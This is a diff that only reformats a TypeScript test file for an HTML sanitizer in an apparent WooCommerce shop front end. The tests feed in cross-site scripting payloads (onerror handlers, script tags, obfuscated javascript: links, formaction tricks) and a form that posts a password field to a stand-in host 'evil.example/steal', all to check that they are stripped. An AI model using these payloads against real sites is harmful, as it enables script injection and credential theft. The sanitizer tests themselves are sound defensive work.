@@ -11,12 +11,17 @@ const html = (fragment: DocumentFragment) => {
 
 describe('inline price HTML', () => {
   it('keeps WooCommerce price markup', () => {
-    const price = '<del aria-hidden="true"><span class="woocommerce-Price-amount amount"><bdi>19,90&nbsp;€</bdi></span></del> <ins><span class="amount">14,90 €</span></ins>';
+    const price =
+      '<del aria-hidden="true"><span class="woocommerce-Price-amount amount"><bdi>19,90&nbsp;€</bdi></span></del> <ins><span class="amount">14,90 €</span></ins>';
     expect(html(inlineHtml(price))).toBe(price);
   });
 
   it('drops scripts, handlers, links and images but keeps harmless text', () => {
-    const out = html(inlineHtml('<span onclick="x()" style="color:red">9 €</span><img src=x onerror="window.__xss=1"><script>window.__xss=1</script><a href="javascript:x()">mehr</a><svg><script>1</script></svg>'));
+    const out = html(
+      inlineHtml(
+        '<span onclick="x()" style="color:red">9 €</span><img src=x onerror="window.__xss=1"><script>window.__xss=1</script><a href="javascript:x()">mehr</a><svg><script>1</script></svg>',
+      ),
+    );
     expect(out).toBe('<span>9 €</span>mehr');
   });
 });
@@ -28,7 +33,9 @@ describe('server HTML', () => {
         '<form class="cart" action="/p/"><input name="quantity" value="1" onfocus="x()"><button formaction="javascript:alert(1)">Kaufen</button></form><img src="/a.jpg" onerror="x()"><a href=" jAvA\tscript:alert(1)">x</a><a href="/ok/">ok</a><script>x()</script><iframe src="https://example.org/"></iframe>',
       ),
     );
-    expect(out).toBe('<form class="cart" action="/p/"><input name="quantity" value="1"><button>Kaufen</button></form><img src="/a.jpg"><a>x</a><a href="/ok/">ok</a>');
+    expect(out).toBe(
+      '<form class="cart" action="/p/"><input name="quantity" value="1"><button>Kaufen</button></form><img src="/a.jpg"><a>x</a><a href="/ok/">ok</a>',
+    );
   });
 
   it('drops <style>, <link>, MathML, SVG animation and data: URLs', () => {
@@ -43,19 +50,31 @@ describe('server HTML', () => {
   });
 
   it('lets forms post only to this site', () => {
-    const out = html(serverHtml(`<form action="https://evil.example/steal" method="post"><input name="pw"><button formaction="//evil.example/">x</button></form><form action="${location.origin}/checkout/"></form>`));
+    const out = html(
+      serverHtml(
+        `<form action="https://evil.example/steal" method="post"><input name="pw"><button formaction="//evil.example/">x</button></form><form action="${location.origin}/checkout/"></form>`,
+      ),
+    );
     expect(out).toBe(`<form method="post"><input name="pw"><button>x</button></form><form action="${location.origin}/checkout/"></form>`);
   });
 
   it('keeps island hosts only for the islands the caller names', () => {
-    const out = html(serverHtml('<form data-island="add-to-cart"></form><div data-island="lazy-scripts" data-flag="fetch"></div><div class="q" data-island="quantity"></div>', { islands: ['add-to-cart'] }));
+    const out = html(
+      serverHtml(
+        '<form data-island="add-to-cart"></form><div data-island="lazy-scripts" data-flag="fetch"></div><div class="q" data-island="quantity"></div>',
+        { islands: ['add-to-cart'] },
+      ),
+    );
     expect(out).toBe('<form data-island="add-to-cart"></form><div data-flag="fetch"></div><div class="q"></div>');
   });
 
   it('allows https embeds only when asked, and opens new tabs without an opener', () => {
-    const embed = '<iframe src="https://www.youtube-nocookie.com/embed/x" allowfullscreen=""></iframe><iframe src="http://plain.example/"></iframe><a href="/p/" target="_blank">p</a>';
+    const embed =
+      '<iframe src="https://www.youtube-nocookie.com/embed/x" allowfullscreen=""></iframe><iframe src="http://plain.example/"></iframe><a href="/p/" target="_blank">p</a>';
     expect(html(serverHtml(embed))).toBe('<a href="/p/" target="_blank" rel="noopener noreferrer">p</a>');
-    expect(html(serverHtml(embed, { embeds: true }))).toBe('<iframe src="https://www.youtube-nocookie.com/embed/x" allowfullscreen=""></iframe><a href="/p/" target="_blank" rel="noopener noreferrer">p</a>');
+    expect(html(serverHtml(embed, { embeds: true }))).toBe(
+      '<iframe src="https://www.youtube-nocookie.com/embed/x" allowfullscreen=""></iframe><a href="/p/" target="_blank" rel="noopener noreferrer">p</a>',
+    );
   });
 
   it('renders a hostile string as text, not markup', () => {
